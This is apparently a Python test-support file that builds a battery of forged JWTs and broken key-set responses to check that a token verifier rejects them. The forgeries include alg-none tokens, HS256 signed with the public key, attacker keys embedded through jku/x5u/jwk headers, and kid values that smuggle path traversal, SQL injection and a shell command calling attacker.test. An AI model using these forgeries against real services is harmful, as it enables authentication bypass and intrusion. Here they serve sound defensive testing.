"""The JWT attacks of battery 1, each a way to build the request's headers from the real
issuer; and the broken key sets the issuer's endpoint can answer with. Battery 4 (the logs)
replays them all."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import httpx
from cryptography.hazmat.primitives import hashes

from tests.support import forge
from tests.support.identity import AUDIENCE, ISSUER, JWKS_URL, Issuer, SigningKey, b64url
from tests.support.internet import FakeInternet

ATTACKER_URL = "https://attacker.test/keys.json"
Case = Callable[[Issuer], dict[str, str | None]]


def bearer(token: str) -> dict[str, str | None]:
    return {"authorization": f"Bearer {token}"}


def signed(header: dict[str, Any] | None = None, **claim_overrides: Any) -> Case:
    """A token signed by the issuer's real key, with a header or claims changed."""

    def build(issuer: Issuer) -> dict[str, str | None]:
        key = issuer.keys[0]
        head = {"alg": "RS256", "kid": key.kid} | (header or {})
        head = {k: v for k, v in head.items() if v is not ...}
        return bearer(forge.rs256(key, head, forge.claims(**claim_overrides)))

    return build


def header_only(value: str | None) -> Case:
    return lambda issuer: {"authorization": value}


def real(issuer: Issuer) -> str:
    return issuer.token("mallory")


def with_segments(change: Callable[[list[str], Issuer], str]) -> Case:
    return lambda issuer: bearer(change(real(issuer).split("."), issuer))


def alg_none(name: str, keep_signature: bool = False) -> Case:
    def build(issuer: Issuer) -> dict[str, str | None]:
        sig = real(issuer).split(".")[2]
        header = {"alg": name, "typ": "JWT", "kid": issuer.keys[0].kid}
        return bearer(forge.unsigned(header, forge.claims(), sig if keep_signature else ""))

    return build


def hs_with_public_key(encoding: str) -> Case:
    def build(issuer: Issuer) -> dict[str, str | None]:
        secret = forge.public_key_encodings(issuer.keys[0])[encoding]
        return bearer(
            forge.hs256(secret, {"alg": "HS256", "kid": issuer.keys[0].kid}, forge.claims())
        )

    return build


def attacker_key_with(header_name: str) -> Case:
    """Signed by the attacker's own key, pointing at it through a header."""

    def build(issuer: Issuer) -> dict[str, str | None]:
        attacker = SigningKey.rsa("attacker")
        value: Any = {
            "jku": ATTACKER_URL,
            "x5u": ATTACKER_URL,
            "jwk": attacker.jwk(),
            "x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"],
        }[header_name]
        return bearer(
            forge.rs256(
                attacker, {"alg": "RS256", "kid": "attacker", header_name: value}, forge.claims()
            )
        )

    return build


def other_signature(segments: list[str], issuer: Issuer) -> str:
    donor = issuer.token("someone-else", scope="openid admin").split(".")[2]
    return f"{segments[0]}.{segments[1]}.{donor}"


def flip(segment: str) -> str:
    return segment[:-2] + ("A" if segment[-2] != "A" else "B") + segment[-1]


def nested(depth: int) -> Case:
    def build(issuer: Issuer) -> dict[str, str | None]:
        head = b64url(b'{"alg":"RS256","x":' + b"[" * depth + b"]" * depth + b"}")
        return bearer(f"{head}.{forge.segment(forge.claims())}.c2ln")

    return build


def rs256_on_ec_key(issuer: Issuer) -> dict[str, str | None]:
    ec_key = SigningKey.ec("ec-key")
    issuer.keys.append(ec_key)  # the key set holds an EC key; the header claims RS256 for it
    return bearer(forge.es256(ec_key, {"alg": "RS256", "kid": ec_key.kid}, forge.claims()))


def no_kid_among_several(issuer: Issuer) -> dict[str, str | None]:
    issuer.keys.append(SigningKey.rsa())
    return signed({"kid": ...})(issuer)


NOW = int(time.time())
CASES: dict[str, Case] = {
    # the Authorization header
    "no_authorization_header": header_only(None),
    "empty_authorization_header": header_only(""),
    "bearer_with_nothing": header_only("Bearer "),
    "basic_scheme": header_only("Basic bWFsbG9yeTpwYXNzd29yZA=="),
    "token_without_scheme": lambda i: {"authorization": real(i)},
    "two_tokens_comma": lambda i: {"authorization": f"Bearer {real(i)}, Bearer {real(i)}"},
    "two_tokens_space": lambda i: {"authorization": f"Bearer {real(i)} {real(i)}"},
    # structure
    "two_segments": with_segments(lambda s, i: f"{s[0]}.{s[1]}"),
    "four_segments": with_segments(lambda s, i: ".".join([*s, s[2]])),
    "jwe_five_segments": with_segments(lambda s, i: f"{s[0]}.{s[1]}.{s[2]}.{s[2]}.{s[2]}"),
    "json_serialization": lambda i: {"authorization": 'Bearer {"payload":"e30","signatures":[]}'},
    "non_base64url_characters": with_segments(
        lambda s, i: f"{s[0]}.{s[1].replace('-', '+')}+/.{s[2]}"
    ),
    "junk_padding": with_segments(lambda s, i: f"{s[0]}==.{s[1]}.{s[2]}"),
    "header_not_json": lambda i: bearer(
        f"{b64url(b'not json')}.{forge.segment(forge.claims())}.c2ln"
    ),
    "header_a_list": lambda i: bearer(
        f"{forge.segment(['RS256'])}.{forge.segment(forge.claims())}.c2ln"
    ),
    "payload_a_list": lambda i: bearer(
        forge.rs256(i.keys[0], {"alg": "RS256", "kid": i.keys[0].kid}, ["x"])
    ),
    "payload_a_string": lambda i: bearer(
        forge.rs256(i.keys[0], {"alg": "RS256", "kid": i.keys[0].kid}, "x")
    ),
    "deeply_nested_header": nested(3000),
    "token_over_8_kb": signed(padding="x" * 9000),
    # algorithm
    "alg_none": alg_none("none"),
    "alg_None": alg_none("None"),
    "alg_NONE": alg_none("NONE"),
    "alg_nOnE_with_signature": alg_none("nOnE", keep_signature=True),
    "alg_missing": signed({"alg": ...}),
    "alg_not_a_string": signed({"alg": ["RS256"]}),
    "alg_lower_case": signed({"alg": "rs256"}),
    "alg_with_a_space": signed({"alg": "RS256 "}),
    **{
        f"hs256_with_public_key_{enc}": hs_with_public_key(enc)
        for enc in ("pem_spki", "pem_pkcs1", "der", "jwk_json", "ssh")
    },
    "hs256_with_weak_secret": lambda i: bearer(
        forge.hs256(b"secret", {"alg": "HS256"}, forge.claims())
    ),
    "rs256_header_on_ec_key": rs256_on_ec_key,
    "ps256_when_rs256_pinned": lambda i: bearer(
        forge.ps256(i.keys[0], {"alg": "PS256", "kid": i.keys[0].kid}, forge.claims())
    ),
    "rs512_when_rs256_pinned": lambda i: bearer(
        forge.rs256(
            i.keys[0], {"alg": "RS512", "kid": i.keys[0].kid}, forge.claims(), hashes.SHA512()
        )
    ),
    # signature
    "signature_missing": with_segments(lambda s, i: f"{s[0]}.{s[1]}."),
    "signature_truncated": with_segments(lambda s, i: f"{s[0]}.{s[1]}.{s[2][:40]}"),
    "signature_altered": with_segments(lambda s, i: f"{s[0]}.{s[1]}.{flip(s[2])}"),
    "payload_altered": with_segments(
        lambda s, i: f"{s[0]}.{forge.segment(forge.claims(sub='admin'))}.{s[2]}"
    ),
    "signature_from_another_token": with_segments(other_signature),
    "signed_by_a_stranger": lambda i: bearer(
        forge.rs256(
            SigningKey.rsa(i.keys[0].kid), {"alg": "RS256", "kid": i.keys[0].kid}, forge.claims()
        )
    ),
    # kid
    "kid_a_number": signed({"kid": 7}),
    "kid_a_list": signed({"kid": ["a"]}),
    "kid_null": signed({"kid": None}),
    "kid_empty": signed({"kid": ""}),
    "kid_path_traversal": signed({"kid": "../../../../../../dev/null"}),
    "kid_sql": signed({"kid": "x' UNION SELECT 'secret' --"}),
    "kid_shell": signed({"kid": "$(curl attacker.test)|id"}),
    "kid_huge": signed({"kid": "k" * 4000}),
    "no_kid_among_several_keys": no_kid_among_several,
    # headers that would choose the key or change the reading
    "embedded_jku": attacker_key_with("jku"),
    "embedded_x5u": attacker_key_with("x5u"),
    "embedded_jwk": attacker_key_with("jwk"),
    "embedded_x5c": attacker_key_with("x5c"),
    "jku_on_a_real_signature": signed({"jku": ATTACKER_URL}),
    "crit_unknown": signed({"crit": ["exp"]}),
    "b64_false": signed({"b64": False, "crit": ["b64"]}),
    "typ_not_a_string": signed({"typ": 1}),
    # time claims
    "exp_missing": signed(exp=...),
    "exp_past": signed(exp=NOW - 3600, iat=NOW - 4000),
    "exp_string": signed(exp=str(NOW + 600)),
    "exp_bool": signed(exp=True),
    "exp_null": signed(exp=None),
    "exp_absurd": signed(exp=10**20),
    "exp_negative": signed(exp=-1),
    "exp_nan": lambda i: bearer(
        forge.rs256(
            i.keys[0],
            {"alg": "RS256", "kid": i.keys[0].kid},
            b'{"iss":"%s","sub":"m","aud":"%s","exp":NaN}' % (ISSUER.encode(), AUDIENCE.encode()),
        )
    ),
    "nbf_future": signed(nbf=NOW + 3600),
    "iat_future": signed(iat=NOW + 3600, exp=NOW + 4000),
    "iat_string": signed(iat=str(NOW)),
    "iat_bool": signed(iat=True),
    "iat_null": signed(iat=None),
    "nbf_string": signed(nbf=str(NOW - 60)),
    "nbf_absurd": signed(nbf=10**20),
    "exp_float_string": signed(exp=f"{NOW + 600}.0"),
    "lifetime_too_long": signed(iat=NOW, exp=NOW + 2 * 86400),
    # issuer
    "iss_wrong": signed(iss="https://evil.test/"),
    "iss_missing": signed(iss=...),
    "iss_not_a_string": signed(iss=[ISSUER]),
    "iss_prefix": signed(iss=ISSUER.rstrip("/")),
    "iss_suffix": signed(iss=ISSUER + "evil"),
    "iss_double_slash": signed(iss=ISSUER + "/"),
    "iss_other_case": signed(iss=ISSUER.upper()),
    # audience and token type
    "aud_wrong": signed(aud="another-app"),
    "aud_missing": signed(aud=...),
    "aud_list_without_ours": signed(aud=["a", "b"]),
    "aud_not_a_string": signed(aud=7),
    "cognito_client_id_of_another_client": signed(aud=..., client_id="another-client"),
    "id_token_where_access_required": signed(token_use="id"),
    # subject
    "sub_missing": signed(sub=...),
    "sub_empty": signed(sub=""),
    "sub_not_a_string": signed(sub=42),
    "sub_blank": signed(sub="   "),
    "sub_a_list": signed(sub=["alice"]),
}


def answer_key_set_with(internet: FakeInternet, respond: Callable[[httpx.Request], Any]) -> None:
    real = internet.handle

    def handle(request: httpx.Request) -> httpx.Response:
        if str(request.url) == JWKS_URL:
            internet.requests.append(request)
            return respond(request)
        return real(request)

    internet.handle = handle  # type: ignore[method-assign]


def _timeout(request: httpx.Request) -> httpx.Response:
    raise httpx.ReadTimeout("key set too slow", request=request)


BROKEN_KEY_SETS: dict[str, Callable[[httpx.Request], Any]] = {
    "server_error": lambda r: httpx.Response(500),
    "redirect_to_attacker": lambda r: httpx.Response(302, headers={"location": ATTACKER_URL}),
    "not_json": lambda r: httpx.Response(200, content=b"<html>maintenance</html>"),
    "not_an_object": lambda r: httpx.Response(200, json=[1, 2]),
    "deeply_nested": lambda r: httpx.Response(
        200, content=b'{"keys":' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    ),
    "oversized": lambda r: httpx.Response(200, content=b'{"keys":[' + b" " * 70_000 + b"]}"),
    "only_a_symmetric_key": lambda r: httpx.Response(
        200, json={"keys": [{"kty": "oct", "kid": "k", "k": b64url(b"secret")}]}
    ),
    "timeout": _timeout,
}
